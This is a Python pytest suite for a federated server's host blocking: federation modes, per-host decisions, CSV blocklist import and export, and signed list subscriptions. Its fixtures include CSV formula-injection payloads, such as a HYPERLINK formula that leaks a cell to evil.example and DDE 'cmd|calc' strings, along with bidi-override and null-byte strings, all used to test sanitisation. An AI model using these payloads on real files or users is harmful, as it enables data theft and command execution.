"""What was decided about hosts is held to at the inbox, at follows and at fetches; what others advise counts until we decide."""

import asyncio
import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import event, select

from federation.errors import Forbidden, Mismatch
from federation.proofs import attach
from node.database import Database
from node.entries.search import entry_at
from node.errors import Invalid, NotAllowed
from node.outbox import Job
from node.peers import blocklists, lists
from node.peers.actors import keys_of
from node.peers.directory import find_actor, find_by_handle
from node.peers.follows import between, follow, follows, unfollow
from node.peers.hosts import (
    MAX_REASON,
    Blocklist,
    HostAdvice,
    Standing,
    blocked,
    decide,
    decisions,
    host_name,
    is_blocked,
    standings,
    takes_reports_of,
)
from node.peers.ours import local_actor_at
from node.peers.reports import open_reports
from node.publishing.publish import withdraw
from node.settings import Settings
from tests.rig.publications import a_case, publish_case
from tests.rig.stranger import Stranger
from tests.rig.town import Town
from vocab.terms import AS

pytestmark = pytest.mark.both_databases


async def decided(town: Town, name: str, host: str, policy: str | None, **refused: bool) -> None:
    node = town[name].node
    async with node.database.begin() as session:
        await decide(session, host, policy, reason="a test", now=node.clock.now(), **refused)


async def standing(town: Town, name: str, host: str) -> Standing:
    node = town[name].node
    async with node.database.read() as session:
        return (await standings(session, node.settings, [host]))[host]


def a_follow(stranger: Stranger, town: Town, name: str, number: int = 1) -> dict[str, Any]:
    return stranger.activity("Follow", town[name].settings.main_actor, number=number)


async def ask_to_follow(town: Town, name: str, stranger: Stranger) -> None:
    node = town[name].node
    us = local_actor_at(node.settings, node.settings.main_actor)
    assert us is not None
    them = await find_actor(node, stranger.id, invited=True)
    async with node.database.begin() as session:
        await follow(session, node.settings, node.keyring, us=us, them=them, now=node.clock.now())


# ---- modes -------------------------------------------------------------------------------------------------------


async def test_a_closed_server_takes_nothing_and_asks_nobody(town: Town) -> None:
    closed = await town.open("c", federation="closed")
    stranger = Stranger(town)

    answer = await stranger.post("c", a_follow(stranger, town, "c"))

    assert answer.status_code == 403
    assert stranger.asked == []
    with pytest.raises(Forbidden):
        await find_actor(closed.node, stranger.id, invited=True)
    with pytest.raises(Forbidden):
        await find_by_handle(closed.node, f"sam@{stranger.host}")
    assert stranger.asked == []


async def test_a_closed_server_follows_nobody(town: Town) -> None:
    stranger = Stranger(town)
    closed = await town.open("c", federation="closed")
    us = local_actor_at(closed.settings, closed.settings.main_actor)
    assert us is not None
    them = await find_actor(town["a"].node, stranger.id)

    with pytest.raises(NotAllowed):
        async with closed.node.database.begin() as session:
            await follow(
                session, closed.settings, closed.node.keyring, us=us, them=them, now=town.clock.now()
            )


async def test_a_server_for_members_takes_nothing_from_strangers_and_does_not_ask_them(town: Town) -> None:
    site = await town.open("m", federation="members")
    stranger = Stranger(town)

    answer = await stranger.post("m", a_follow(stranger, town, "m"))

    assert answer.status_code == 403
    assert stranger.asked == []
    with pytest.raises(Forbidden):
        await find_actor(site.node, stranger.id)


async def test_a_server_for_members_listens_to_whom_it_follows_and_whom_it_allows(town: Town) -> None:
    await town.open("m", federation="members")
    member = Stranger(town, "member.example", "cases", key="other")
    allowed = Stranger(town, "sub.friend.example")
    await ask_to_follow(town, "m", member)
    await decided(town, "m", "friend.example", "allow")

    answers = [await one.post("m", a_follow(one, town, "m")) for one in (member, allowed)]
    await town.settle()

    assert [answer.status_code for answer in answers] == [202, 202]
    assert [one.received[-1]["type"] for one in (member, allowed)] == ["Accept", "Accept"]


async def test_a_hub_for_members_hears_what_one_it_let_go_withdraws_and_nothing_else_of_them(
    town: Town,
) -> None:
    site = await town.open("hub-for-members", federation="members")
    a, now = town["a"].node, town.clock.now()
    us = local_actor_at(site.settings, site.settings.main_actor)
    assert us is not None
    them = await find_actor(site.node, a.settings.main_actor, invited=True)
    async with site.node.database.begin() as session:
        await follow(session, site.settings, site.node.keyring, us=us, them=them, now=now)
    await town.settle()
    shown, shown_after = await publish_case(a), a_case(title={"en": "Said after they were let go"})
    await town.settle()
    async with site.node.database.begin() as session:
        await unfollow(session, site.settings, site.node.keyring, us=us, them=them, now=now)
    await town.settle()
    town.clock.forward(hours=1)

    later = await publish_case(a, shown_after)
    async with a.database.begin() as session:
        await withdraw(
            session, a.settings, a.keyring, case_id=shown.case_id, reason="factual-error",
            proposed_by="x", approved_by="y", now=town.clock.now(),
        )  # fmt: skip
    await town.settle()

    async with site.node.database.read() as session:
        entry = await entry_at(session, shown.url)
        assert await entry_at(session, later.url) is None
    assert entry is not None
    assert entry.withdrawn_at is not None
    assert await standing(town, "hub-for-members", a.settings.authority) is Standing.LIMITED


async def test_a_limited_server_lets_strangers_follow_and_add_nothing(
    town: Town, caplog: pytest.LogCaptureFixture
) -> None:
    site = await town.open("l", federation="limited")
    publication = await publish_case(site.node)
    stranger = Stranger(town)

    answers = [
        await stranger.post("l", said)
        for said in (
            a_follow(stranger, town, "l"),
            stranger.activity("Like", publication.url),
            stranger.activity("Announce", publication.url),
            stranger.activity("Flag", [publication.url], content="Wrong."),
        )
    ]
    with caplog.at_level("INFO"):
        await town.settle()

    assert {answer.status_code for answer in answers} == {202}
    assert [activity["type"] for activity in stranger.received] == ["Accept"]
    refused = [getattr(record, "reason", "") for record in caplog.records]
    assert refused.count("a host that may only follow") == 3
    async with site.node.database.read() as session:
        assert await follows(session, stranger.id, site.settings.main_actor)
        assert await open_reports(session) == []
    await stranger.post("l", stranger.activity("Undo", a_follow(stranger, town, "l")))
    await town.settle()
    async with site.node.database.read() as session:
        assert not await follows(session, stranger.id, site.settings.main_actor)


async def test_a_limited_server_hears_whom_it_follows_or_allows_and_nobody_who_is_blocked(
    town: Town,
) -> None:
    site = await town.open("l", federation="limited")
    member = Stranger(town, "member.example", "cases", key="other")
    await ask_to_follow(town, "l", member)
    await decided(town, "l", "friend.example", "allow")
    await decided(town, "l", "evil.example", "block")
    await decided(town, "l", "loud.friend.example", "limit")

    assert await standing(town, "l", member.host) is Standing.OPEN
    assert await standing(town, "l", "sub.friend.example") is Standing.OPEN
    assert await standing(town, "l", "loud.friend.example") is Standing.LIMITED
    assert await standing(town, "l", "stranger.example") is Standing.LIMITED
    assert await standing(town, "l", "sub.evil.example") is Standing.SHUT
    evil = Stranger(town, "evil.example", "mallory")
    assert (await evil.post("l", a_follow(evil, town, "l"))).status_code == 403
    publication = await publish_case(site.node)
    flagged = member.activity("Flag", [publication.url], content="Wrong.")
    assert (await member.post("l", flagged)).status_code == 202
    await town.settle()
    async with site.node.database.read() as session:
        assert len(await open_reports(session)) == 1


@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        ("open", Standing.OPEN),
        ("limited", Standing.LIMITED),
        ("members", Standing.SHUT),
        ("closed", Standing.SHUT),
    ],
)
async def test_the_mode_says_what_a_stranger_may_do(town: Town, mode: str, expected: Standing) -> None:
    await town.open("x", federation=mode)

    assert await standing(town, "x", "stranger.example") is expected


# ---- decisions ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "one"),
    [
        ("Evil.Example", "evil.example"),
        ("evil.example.", "evil.example"),
        ("https://evil.example:443/path", "evil.example"),
        ("*.evil.example", "evil.example"),
        ("@mallory@evil.example", "evil.example"),
        ("bücher.example", "xn--bcher-kva.example"),
        ("straße.example", "xn--strae-oqa.example"),
        ("evil.example:8443", "evil.example:8443"),
        ("[2001:DB8::1]:8443", "[2001:db8::1]:8443"),
    ],
)
async def test_a_host_has_one_spelling(written: str, one: str) -> None:
    assert host_name(written) == one


@pytest.mark.parametrize(
    "written",
    [
        *("", " ", "https://", "evil example", "x" * 300, "evil.example:port", "."),
        *("=1+cmd|'calc'!a0", "ev\0il.example", "evil.example:" + "9" * 300, "evil.example:٤٤٣", "[::1]x"),
    ],
)
async def test_what_is_no_host_is_refused(written: str) -> None:
    with pytest.raises(Invalid):
        host_name(written)


@pytest.mark.parametrize("host", ["evil.example", "a.b.evil.example", "evil.example:8443", "evil.example."])
async def test_a_block_holds_for_everything_below(town: Town, host: str) -> None:
    await decided(town, "a", "Evil.example", "block")

    assert await standing(town, "a", host) is Standing.SHUT


@pytest.mark.parametrize("host", ["notevil.example", "evil.example.org", "example", "good.evil.example"])
async def test_and_for_nothing_beside(town: Town, host: str) -> None:
    await decided(town, "a", "evil.example", "block")
    await decided(town, "a", "good.evil.example", "allow")

    assert await standing(town, "a", host) is Standing.OPEN


async def test_a_block_forgets_the_hosts_keys_and_ends_its_follows(town: Town) -> None:
    stranger = Stranger(town, "deep.evil.example")
    await stranger.post("a", a_follow(stranger, town, "a"))
    await ask_to_follow(town, "a", stranger)
    await town.settle()
    node = town["a"].node

    await decided(town, "a", "evil.example", "block")

    async with node.database.read() as session:
        assert await keys_of(session, stranger.id) == []
        assert not await follows(session, stranger.id, node.settings.main_actor)
        ours = await between(session, node.settings.main_actor, stranger.id)
    assert ours is not None
    assert ours.state == "undone"


async def test_who_is_let_back_in_at_once_is_asked_for_their_keys_anew(town: Town) -> None:
    await town.befriend("a", "b")
    node = town["a"].node

    await decided(town, "a", "b.example", "block")
    missed = await publish_case(town["b"].node)
    await town.settle()
    await decided(town, "a", "b.example", None)
    await town.befriend("a", "b")

    async with node.database.read() as session:
        assert await entry_at(session, missed.url) is not None


async def test_a_host_that_is_blocked_while_its_key_is_at_hand_is_refused_at_once(town: Town) -> None:
    stranger = Stranger(town)
    assert (await stranger.post("a", a_follow(stranger, town, "a"))).status_code == 202
    await town.settle()

    await decided(town, "a", stranger.host, "block")

    assert (await stranger.post("a", a_follow(stranger, town, "a", 2))).status_code == 403
    await decided(town, "a", stranger.host, None)
    assert (await stranger.post("a", a_follow(stranger, town, "a", 2))).status_code == 202


async def test_what_a_blocked_host_said_before_has_no_effect_after(town: Town) -> None:
    stranger = Stranger(town)
    await stranger.post("a", a_follow(stranger, town, "a"))

    await decided(town, "a", stranger.host, "block")
    await town.settle()

    async with town["a"].node.database.read() as session:
        assert await between(session, stranger.id, town["a"].settings.main_actor) is None


async def test_a_limited_host_may_follow_and_leave_and_adds_nothing(
    town: Town, caplog: pytest.LogCaptureFixture
) -> None:
    stranger = Stranger(town)
    await decided(town, "a", stranger.host, "limit")

    await stranger.post("a", a_follow(stranger, town, "a"))
    with caplog.at_level("INFO"):
        await stranger.post("a", stranger.activity("Like", f"{town['a'].origin}/cases/x"))
        await town.settle()

    async with town["a"].node.database.read() as session:
        assert await follows(session, stranger.id, town["a"].settings.main_actor)
    assert "a host that may only follow" in [getattr(record, "reason", "") for record in caplog.records]


@pytest.mark.parametrize(
    ("host", "taken"),
    [
        ("nagging.example", False),
        ("below.nagging.example", False),
        ("good.nagging.example", True),
        ("notnagging.example", True),
    ],
)
async def test_reports_of_a_host_are_refused_by_the_nearest_decision(
    town: Town, host: str, taken: bool
) -> None:
    await decided(town, "a", "nagging.example", None, no_reports=True)
    await decided(town, "a", "good.nagging.example", "allow")

    async with town["a"].node.database.read() as session:
        assert await takes_reports_of(session, host) is taken
    assert await standing(town, "a", host) is Standing.OPEN


async def test_a_host_whose_reports_are_refused_may_do_all_else(
    town: Town, caplog: pytest.LogCaptureFixture
) -> None:
    publication = await publish_case(town["a"].node)
    stranger = Stranger(town)
    await decided(town, "a", stranger.host, None, no_reports=True)

    flagged = await stranger.post("a", stranger.activity("Flag", [publication.url], content="Wrong."))
    await stranger.post("a", a_follow(stranger, town, "a"))
    with caplog.at_level("INFO"):
        await town.settle()

    assert flagged.status_code == 202
    assert "a host whose reports are not taken" in [
        getattr(record, "reason", "") for record in caplog.records
    ]
    async with town["a"].node.database.read() as session:
        assert await open_reports(session) == []
        assert await follows(session, stranger.id, town["a"].settings.main_actor)
    await decided(town, "a", stranger.host, None)
    await stranger.post("a", stranger.activity("Flag", [publication.url], number=2))
    await town.settle()
    async with town["a"].node.database.read() as session:
        assert len(await open_reports(session)) == 1


async def test_a_blocked_host_is_heard_through_nobody(town: Town, caplog: pytest.LogCaptureFixture) -> None:
    friend = Stranger(town, "friend.example", key="other")
    blocked = Stranger(town, "evil.example", "mallory")
    await ask_to_follow(town, "a", friend)
    await decided(town, "a", "evil.example", "block")
    node = town["a"].node
    async with node.database.read() as session:
        row = await between(session, node.settings.main_actor, friend.id)
    assert row is not None
    await friend.post("a", friend.activity("Accept", row.activity))

    with caplog.at_level("INFO"):
        await friend.post("a", friend.activity("Announce", f"https://{blocked.host}/cases/1"))
        await town.settle()

    assert blocked.asked == []
    assert "a host that is shut out" in [getattr(record, "reason", "") for record in caplog.records]


# ---- as a file ---------------------------------------------------------------------------------------------------


async def test_decisions_go_out_and_come_in_as_mastodon_writes_them(town: Town) -> None:
    for host, policy in (("evil.example", "block"), ("loud.example", "limit"), ("friend.example", "allow")):
        await decided(town, "a", host, policy)
    async with town["a"].node.database.read() as session:
        content = (await blocklists.export_csv(session)).content

    await decided(town, "b", "loud.example", "allow")
    async with town["b"].node.database.begin() as session:
        done = await blocklists.import_csv(session, town["b"].settings, content, now=town.clock.now())
    async with town["b"].node.database.read() as session:
        found = {host.name: host.policy for host in await decisions(session)}

    assert content.splitlines() == [
        "#domain,#severity,#reject_media,#reject_reports,#public_comment,#obfuscate",
        "evil.example,suspend,True,True,a test,False",
        "loud.example,silence,False,False,a test,False",
    ]
    assert (done.added, done.kept, done.skipped) == (1, 1, 0)
    assert found == {"evil.example": "block", "loud.example": "allow"}


REASONS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1 for this, says everybody",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "'=already disarmed",
    "''@twice",
    "'tis the season",
    "'",
    'threats, "and worse"\n=1+1',
]


async def test_no_reason_is_a_formula_to_who_opens_the_file_and_each_comes_back_as_it_was(town: Town) -> None:
    wanted = {f"host{number}.example": reason for number, reason in enumerate(REASONS)}
    now = town.clock.now()
    async with town["a"].node.database.begin() as session:
        for host, reason in wanted.items():
            await decide(session, host, "block", reason=reason, now=now)
        exported = await blocklists.export_csv(session)
    async with town["b"].node.database.begin() as session:
        await blocklists.import_csv(session, town["b"].settings, exported.content, now=now)
        found = {host.name: host.reason for host in await decisions(session)}

    cells = [cell for line in csv.reader(io.StringIO(exported.content)) for cell in line]
    # https://owasp.org/www-community/attacks/CSV_Injection
    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))] == []
    assert exported.hosts == len(wanted)
    assert found == wanted


async def test_what_is_refused_of_a_host_goes_out_and_comes_in_with_it(town: Town) -> None:
    await decided(town, "a", "loud.example", "limit", no_media=True)
    await decided(town, "a", "nagging.example", None, no_reports=True)
    await decided(town, "a", "friend.example", "allow", no_media=True, no_reports=True)
    async with town["a"].node.database.read() as session:
        content = (await blocklists.export_csv(session)).content

    async with town["b"].node.database.begin() as session:
        done = await blocklists.import_csv(session, town["b"].settings, content, now=town.clock.now())
        again = await blocklists.import_csv(session, town["b"].settings, content, now=town.clock.now())
    async with town["b"].node.database.read() as session:
        found = {
            host.name: (host.policy, host.no_media, host.no_reports) for host in await decisions(session)
        }

    assert content.splitlines()[1:] == [
        "friend.example,noop,True,True,a test,False",
        "loud.example,silence,True,False,a test,False",
        "nagging.example,noop,False,True,a test,False",
    ]
    assert (done.added, again.kept) == (3, 3)
    assert found == {
        "friend.example": (None, True, True),
        "loud.example": ("limit", True, False),
        "nagging.example": (None, False, True),
    }


async def test_a_file_of_many_hosts_takes_no_more_questions_than_one_of_few(
    database: Database, settings: Callable[..., Settings], now: datetime
) -> None:
    """Each line looked through all hosts: a list of fifty thousand, as are shared, held the database for hours."""
    asked: list[int] = []

    def note(*_: object) -> None:
        asked[-1] += 1

    event.listen(database.engine.sync_engine, "before_cursor_execute", note)
    for many in (3, 30):
        lines = "".join(f"evil{number}.of{many}.example,suspend,spam\n" for number in range(many))
        asked.append(0)
        async with database.begin() as session:
            content = f"#domain,#severity,#public_comment\n{lines}evil0.of{many}.example,silence,\n"
            done = await blocklists.import_csv(session, settings(), content, now=now)
        assert (done.added, done.kept) == (many, 1)

    assert asked[0] == asked[1]
    async with database.read() as session:
        assert len(await blocked(session, [f"evil{number}.of30.example" for number in range(30)])) == 30


async def test_a_file_of_something_else_is_refused_and_strange_lines_are_passed_over(town: Town) -> None:
    lines = "#domain,#severity\nevil.example,suspend\n,suspend\nx.example,noop\n\ny y,silence\n"
    async with town["a"].node.database.begin() as session:
        with pytest.raises(Invalid):
            await blocklists.import_csv(session, town["a"].settings, "name,size\nx,1\n", now=town.clock.now())
        done = await blocklists.import_csv(session, town["a"].settings, lines, now=town.clock.now())

    assert (done.added, done.kept, done.skipped) == (1, 0, 4)


@pytest.mark.parametrize(
    "lines",
    [
        'evil.example,suspend,"a reason\nworse.example,suspend,\n',
        'evil.example,suspend,"a "reason" of sorts"\n',
        f"evil.example,suspend,{'x' * 200_000}\n",
    ],
)
async def test_a_file_whose_lines_cannot_be_told_apart_is_refused_as_a_whole(town: Town, lines: str) -> None:
    node = town["a"].node
    content = f"#domain,#severity,#public_comment\nfirst.example,suspend,\n{lines}"
    async with node.database.begin() as session:
        with pytest.raises(Invalid):
            await blocklists.import_csv(session, node.settings, content, now=town.clock.now())

    async with node.database.read() as session:
        assert await decisions(session) == []


async def test_a_file_cannot_cut_us_off_from_ourselves_nor_block_half_the_world(town: Town) -> None:
    node = await town.open("own", origin="https://own.example:8443")
    lines = "".join(
        f"{name},suspend,\n" for name in ("own.example", "OWN.example:8443", "example", "*.example")
    )
    async with town["own"].node.database.begin() as session:
        done = await blocklists.import_csv(
            session,
            node.settings,
            f"#domain,#severity,\nevil.example,suspend,\n{lines}",
            now=town.clock.now(),
        )

    assert (done.added, done.skipped) == (1, 4)


async def test_others_have_their_turn_while_a_long_file_is_read(town: Town) -> None:
    node, turns = town["a"].node, 0

    async def others() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    # None of them is decided about: nothing is written, which would let others go on.
    content = "#domain,#severity\n" + "no host,suspend\n" * (10 * blocklists.READ_AT_ONCE)
    async with node.database.begin() as session:
        beside = asyncio.create_task(others())
        await blocklists.import_csv(session, node.settings, content, now=town.clock.now())
        beside.cancel()

    assert turns >= 10


async def test_one_strange_line_takes_nothing_from_the_others(town: Town) -> None:
    node = town["a"].node
    reason = "turned \u202eround\0 " + "at length " * 200
    strange = f"ev\0il.example,suspend,\nevil.example:{'9' * 300},suspend,\n=1+1,suspend,=1+1\n"
    content = f"#domain,#severity,#public_comment\r{strange}evil.example,suspend,{reason}\r"
    async with node.database.begin() as session:
        done = await blocklists.import_csv(session, node.settings, content, now=town.clock.now())
    async with node.database.read() as session:
        found = {host.name: host.reason or "" for host in await decisions(session)}

    assert (done.added, done.skipped) == (1, 3)
    assert found.keys() == {"evil.example"}
    assert found["evil.example"].startswith("turned round at length")
    assert len(found["evil.example"]) <= MAX_REASON


# ---- as a list ---------------------------------------------------------------------------------------------------


def the_list(town: Town) -> str:
    return f"{town.hub.settings.main_actor}/blocklist"


async def test_a_list_that_its_publisher_did_not_sign_is_refused(town: Town) -> None:
    stranger = Stranger(town)
    url = f"https://{stranger.host}/list"
    stranger.documents["/list"] = {
        "@context": "https://www.w3.org/ns/activitystreams",
        "id": url,
        "type": "OrderedCollection",
        "attributedTo": stranger.id,
        "orderedItems": [{"type": "Block", "object": "https://b.example/"}],
    }

    with pytest.raises(Mismatch):
        await blocklists.subscribe(town["a"].node, url)

    assert await standing(town, "a", "b.example") is Standing.OPEN


async def test_a_reason_in_a_list_turns_no_line_around(town: Town) -> None:
    publisher = Stranger(town, "lists.example")
    url = f"{publisher.id}/blocklist"
    said = {
        "type": "Block",
        "object": "https://b.example/",
        "summary": "spam\u202e \u2066and\u2069 \x1bmore\u200f",
    }
    page: dict[str, Any] = {"@context": AS, "id": url, "type": "OrderedCollection"}
    page |= {"attributedTo": publisher.id, "totalItems": 1, "orderedItems": [said]}
    publisher.documents["/users/sam/blocklist"] = attach(page, publisher.prover(), now=town.clock.now())

    await blocklists.subscribe(town["a"].node, url)
    await town.settle()

    async with town["a"].node.database.read() as session:
        kept = await session.scalars(select(HostAdvice.reason))
    assert kept.all() == ["spam and more"]


@pytest.mark.parametrize("made", ["before", "after"])
async def test_a_list_signed_with_a_key_after_it_was_retired_is_refused(town: Town, made: str) -> None:
    node = town["a"].node
    publisher = Stranger(town, "lists.example")
    url = f"{publisher.id}/blocklist"
    now = node.clock.now()
    await find_actor(node, publisher.id, invited=True)
    async with node.database.begin() as session:
        for key in await keys_of(session, publisher.id):
            key.expires_at = now
    signed_at = now + timedelta(hours=1 if made == "after" else -1)
    document = {"@context": AS, "id": url, "type": "OrderedCollection", "totalItems": 0, "orderedItems": []}
    publisher.documents["/users/sam/blocklist"] = attach(
        {**document, "attributedTo": publisher.id}, publisher.prover(), now=signed_at
    )
    town.clock.forward(hours=2)

    if made == "before":
        assert (await lists.read_list(node, url))[0] == publisher.id
    else:
        with pytest.raises(Mismatch, match="retired"):
            await lists.read_list(node, url)


async def test_a_node_publishes_no_list(town: Town) -> None:
    async with town.visitor("a") as visitor:
        answer = await visitor.get("/actors/cases/blocklist")

    assert answer.status_code == 404


async def test_a_hubs_list_is_followed_day_by_day_and_own_decisions_win(town: Town) -> None:
    node = town["a"].node
    for host in ("evil.example", "friend.example"):
        await decided(town, "hub", host, "block")
    await decided(town, "hub", "loud.example", "limit")
    await decided(town, "a", "friend.example", "allow")

    named = await blocklists.subscribe(node, the_list(town))

    assert named == 3
    assert [await standing(town, "a", f"x.{name}.example") for name in ("evil", "friend", "loud")] == [
        Standing.SHUT,
        Standing.OPEN,
        Standing.LIMITED,
    ]
    await decided(town, "hub", "evil.example", None)
    await decided(town, "hub", "late.example", "block")
    town.clock.forward(hours=25)
    await town.settle()
    assert await standing(town, "a", "evil.example") is Standing.OPEN
    assert await standing(town, "a", "late.example") is Standing.SHUT


@pytest.mark.parametrize("said", [("block", "limit"), ("limit", "block")])
async def test_of_what_several_lists_say_the_strictest_counts(town: Town, said: tuple[str, str]) -> None:
    node = town["a"].node
    async with node.database.begin() as session:
        for number, policy in enumerate(said):
            url = f"https://list-{number}.example/blocks"
            session.add(Blocklist(url=url, actor=f"https://list-{number}.example/actor"))
            await session.flush()
            session.add(HostAdvice(blocklist=url, name="evil.example", policy=policy, reason="a test"))

    assert await standing(town, "a", "evil.example") is Standing.SHUT


@pytest.mark.parametrize(
    ("policy", "advice", "expected"), [("allow", "block", Standing.OPEN), ("block", "allow", Standing.SHUT)]
)
async def test_what_was_decided_here_of_a_domain_wins_over_what_a_list_says_of_a_host_in_it(
    town: Town, policy: str, advice: str, expected: Standing
) -> None:
    await decided(town, "a", "wide.example", policy)
    async with town["a"].node.database.begin() as session:
        url = "https://list.example/blocks"
        session.add(Blocklist(url=url, actor="https://list.example/actor"))
        await session.flush()
        session.add(HostAdvice(blocklist=url, name="near.wide.example", policy=advice, reason="a test"))

    assert await standing(town, "a", "near.wide.example") is expected


@pytest.mark.parametrize("way", ["the list takes it back", "we follow the list no more"])
async def test_a_list_that_is_wrong_for_a_day_ends_no_follow(town: Town, way: str) -> None:
    node, ours = town["a"].node, town["a"].settings.main_actor
    theirs = town["b"].settings.main_actor
    await town.befriend("a", "b")
    await town.befriend("b", "a")

    async def following() -> list[bool]:
        async with node.database.read() as session:
            return [await follows(session, ours, theirs), await follows(session, theirs, ours)]

    await decided(town, "hub", "b.example", "block")
    await blocklists.subscribe(node, the_list(town))
    missed = await publish_case(town["b"].node)
    await town.settle()
    meanwhile = await standing(town, "a", "b.example"), await following()
    async with node.database.read() as session:
        unheard = await entry_at(session, missed.url)

    if way == "the list takes it back":
        await decided(town, "hub", "b.example", None)
        town.clock.forward(hours=25)
    else:
        async with node.database.begin() as session:
            await blocklists.unsubscribe(session, the_list(town), now=node.clock.now())
    await town.settle()

    assert meanwhile == (Standing.SHUT, [True, True])
    assert unheard is None
    assert (await standing(town, "a", "b.example"), await following()) == (Standing.OPEN, [True, True])
    async with node.database.read() as session:
        assert await entry_at(session, missed.url) is not None


@pytest.mark.parametrize("way", ["we lift our limit", "we allow what the list blocks"])
async def test_who_may_speak_again_by_a_decision_here_is_read_for_what_came_meanwhile(
    town: Town, way: str
) -> None:
    node = town["a"].node
    await town.befriend("a", "b")
    if way == "we lift our limit":
        await decided(town, "a", "b.example", "limit")
    else:
        await decided(town, "hub", "b.example", "block")
        await blocklists.subscribe(node, the_list(town))
    missed = await publish_case(town["b"].node)
    await town.settle()
    async with node.database.read() as session:
        unheard = await entry_at(session, missed.url)

    await decided(town, "a", "b.example", None if way == "we lift our limit" else "allow")
    await town.settle()

    assert unheard is None
    async with node.database.read() as session:
        assert await entry_at(session, missed.url) is not None


@pytest.mark.parametrize("policy", ["block", "limit"])
async def test_who_may_not_speak_after_a_decision_is_not_read(town: Town, policy: str) -> None:
    node = town["a"].node
    await town.befriend("a", "b")
    await decided(town, "a", "b.example", "limit")

    await decided(town, "a", "b.example", policy)
    await decided(town, "a", "c.example", None)

    async with node.database.read() as session:
        assert (await session.scalars(select(Job).where(Job.kind == "backfill"))).all() == []


async def test_what_was_decided_here_ends_follows_and_what_a_list_says_beside_does_not(town: Town) -> None:
    node, ours = town["a"].node, town["a"].settings.main_actor
    await town.befriend("a", "b")
    await decided(town, "hub", "b.example", "block")
    await blocklists.subscribe(node, the_list(town))

    await decided(town, "a", "evil.example", "block")
    async with node.database.read() as session:
        before = await follows(session, ours, town["b"].settings.main_actor)
    await decided(town, "a", "b.example", "block")
    async with node.database.read() as session:
        after = await follows(session, ours, town["b"].settings.main_actor)

    assert (before, after) == (True, False)


async def test_a_long_list_comes_in_pages_and_a_list_that_is_down_keeps_what_it_said(town: Town) -> None:
    for number in range(lists.PAGE + 3):
        await decided(town, "hub", f"evil{number}.example", "block")

    assert await blocklists.subscribe(town["a"].node, the_list(town)) == lists.PAGE + 3

    await town.stop("hub")
    town.clock.forward(hours=25)
    await town.settle()
    async with town["a"].node.database.read() as session:
        (row,) = await blocklists.subscriptions(session)
        assert row.trouble
        assert await is_blocked(session, f"evil{lists.PAGE + 2}.example")


async def test_of_a_list_without_end_the_log_says_that_the_rest_was_not_read(
    town: Town, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(lists, "PAGE", 2)
    monkeypatch.setattr(lists, "MAX_PAGES", 2)
    for number in range(4):
        await decided(town, "hub", f"evil{number}.example", "block")
    whole = await blocklists.subscribe(town["a"].node, the_list(town))
    is_said_of_a_whole_one = "list.cut" in caplog.messages

    await decided(town, "hub", "evil4.example", "block")

    assert (whole, await blocklists.subscribe(town["a"].node, the_list(town))) == (4, 4)
    assert (is_said_of_a_whole_one, "list.cut" in caplog.messages) == (False, True)


async def test_of_a_list_of_many_words_no_more_is_read_than_fits_into_memory(
    town: Town, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Two hundred pages of a megabyte each are read into memory, and kept, every day."""
    monkeypatch.setattr(lists, "PAGE", 1)
    monkeypatch.setattr(lists, "MAX_LIST_BYTES", 6_000)
    now, hub = town.clock.now(), town.hub.node
    async with hub.database.begin() as session:
        for number in range(9):
            await decide(session, f"evil{number}.example", "block", reason="words " * 150, now=now)

    assert 0 < await blocklists.subscribe(town["a"].node, the_list(town)) < 9
    assert "list.cut" in caplog.messages


@pytest.mark.parametrize("member", ["attributedTo", "next"])
async def test_a_list_that_names_what_is_no_address_says_so_and_is_read_again_tomorrow(
    town: Town, member: str
) -> None:
    node, publisher = town["a"].node, Stranger(town, "lists.example")
    url, path = f"{publisher.id}/blocklist", "/users/sam/blocklist"
    page: dict[str, Any] = {"@context": AS, "id": url, "type": "OrderedCollection", "totalItems": 1}
    page |= {
        "attributedTo": publisher.id,
        "orderedItems": [{"type": "Block", "object": "https://b.example/"}],
    }
    publisher.documents[path] = attach(page, publisher.prover(), now=town.clock.now())
    await blocklists.subscribe(node, url)

    publisher.documents[path] = attach(page | {member: "https://["}, publisher.prover(), now=town.clock.now())
    town.clock.forward(hours=25)
    await town.settle()

    async with node.database.read() as session:
        (row,) = await blocklists.subscriptions(session)
        assert row.trouble
    assert await standing(town, "a", "b.example") is Standing.SHUT


async def test_a_list_cannot_cut_us_off_from_ourselves_and_ends_when_we_say_so(town: Town) -> None:
    for host in ("a.example", "evil.example"):
        await decided(town, "hub", host, "block")
    node = town["a"].node

    await blocklists.subscribe(node, the_list(town))

    assert await standing(town, "a", "a.example") is Standing.OPEN
    async with node.database.begin() as session:
        await blocklists.unsubscribe(session, the_list(town), now=node.clock.now())
    assert await standing(town, "a", "evil.example") is Standing.OPEN


async def test_a_closed_server_speaks_with_nobody_whom_it_once_allowed(town: Town) -> None:
    node = town["a"].node
    async with node.database.begin() as session:
        await decide(session, "friend.example", "allow", reason="a test", now=town.clock.now())
        closed = replace(node.settings, federation="closed")
        found = await standings(session, closed, ["friend.example"])

    assert found == {"friend.example": Standing.SHUT}
